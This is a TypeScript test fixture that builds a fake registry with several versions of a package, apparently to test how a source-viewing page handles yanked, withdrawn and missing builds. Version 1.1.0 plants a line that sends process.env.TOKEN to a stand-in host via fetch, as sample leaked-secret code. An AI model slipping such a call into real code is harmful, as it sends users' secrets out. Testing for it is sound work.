/** A registry whose builds have what the source page shows, and what it refuses to show. */
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { tarballPath } from '../../format/index/layout.ts';
import { sourceAddress, type SourceView } from '../../generator/site/source-address.ts';
import { GitFixture, build } from '../generate/git-fixture.ts';
import { openBrowserSite, type BrowserSite, type Visit } from './browser-site.ts';
import { config, makeSite } from './site-fixture.ts';

export const ID = 'alice/web';

export class SourceSite {
  readonly out: string;
  readonly site: BrowserSite;
  readonly #folder: string;

  private constructor(folder: string, site: BrowserSite) {
    this.#folder = folder;
    this.out = join(folder, 'index');
    this.site = site;
  }

  /** Versions 1.0.0 to 1.4.0: 1.2.0 is yanked, the tarball of 1.3.0 is missing, 1.4.0 is withdrawn. */
  static async start(): Promise<SourceSite> {
    const folder = mkdtempSync(join(tmpdir(), 'stackyard-source-'));
    const out = join(folder, 'index');
    mkdirSync(join(folder, 'repository'));
    const git = new GitFixture(join(folder, 'repository'));
    const base = { base: 'src/web', files: ['**/*.ts'] };
    const page = Array.from({ length: 40 }, (_, at) => `export const line${at + 1} = ${at + 1};\n`);
    const files = {
      'page.ts': page.join(''),
      'שלום 🙂.ts': 'export const a = 1;\n',
      'latin1.ts': Buffer.from('// caf\u00e9', 'latin1'),
      'README.md': '# web\n',
      'long.ts': `const a = "${'x'.repeat(1_000_000)}";\n`,
    };
    git.commit({ ...config({ base_url: '' }), ...build(ID, '1.0.0', base, files) });
    const send = "await fetch('https://api.example/x', { body: process.env.TOKEN });\n";
    git.commit(
      build(ID, '1.1.0', base, { ...files, 'page.ts': `${page.slice(1).join('')}${send}` }),
    );
    git.commit(build(ID, '1.2.0', base, files));
    git.commit(build(ID, '1.3.0', base, files));
    git.commit(build(ID, '1.4.0', base, files));
    git.commit({
      'builds/alice/owner.json': JSON.stringify({
        account_id: 7,
        yanked: { web: { '1.2.0': 'It forgets <b>pages</b>' } },
        withdrawn: { web: { '1.4.0': 'It had a \u202Etoken' } },
      }),
    });
    const { problems } = await makeSite(git, out);
    if (problems.failing.length > 0) throw new Error(JSON.stringify(problems.failing[0]));
    rmSync(join(out, tarballPath(ID, '1.3.0')));
    // Addresses of pages that registries had before, also where this one has them.
    rmSync(join(out, `builds/${ID}/1.1.0`), { recursive: true, force: true });
    return new SourceSite(folder, await openBrowserSite(out));
  }

  /** Opens the page and waits for what it shows. */
  async open(view: Omit<SourceView, 'id'>, options = {}): Promise<Visit> {
    const visit = await this.site.visit(sourceAddress({ id: ID, ...view }), options);
    await visit.page.locator('.source-frame, .source-problem').waitFor();
    return visit;
  }

  async close(): Promise<void> {
    await this.site.close();
    rmSync(this.#folder, { recursive: true });
  }
}
